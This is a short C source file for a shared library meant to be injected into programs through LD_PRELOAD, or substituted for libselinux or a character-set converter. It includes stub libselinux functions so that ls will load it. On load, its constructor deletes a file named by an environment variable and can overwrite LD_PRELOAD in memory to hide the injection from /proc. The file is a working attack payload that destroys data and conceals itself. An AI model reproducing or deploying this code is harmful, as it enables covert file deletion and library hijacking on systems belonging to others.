/* A library that unlinks $VICTIM as soon as any program loads it: by LD_PRELOAD, or in the place of libselinux or of a
 * character set's converter. With $WIPE it first takes LD_PRELOAD out of the program's memory, where /proc shows it. */
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

extern char **environ;

__attribute__((constructor)) static void at_load(void)
{
    const char *victim = getenv("VICTIM");
    if (getenv("WIPE"))
        for (char **entry = environ; *entry; entry++)
            if (!strncmp(*entry, "LD_PRELOAD=", 11)) memset(*entry, 'x', strlen(*entry));
    if (victim) unlink(victim);
}

/* What ls(1) wants of libselinux. */
int freecon(void) { return 0; }
int fgetfilecon(void) { return -1; }
int getfilecon(void) { return -1; }
int lgetfilecon(void) { return -1; }
int is_selinux_enabled(void) { return 0; }
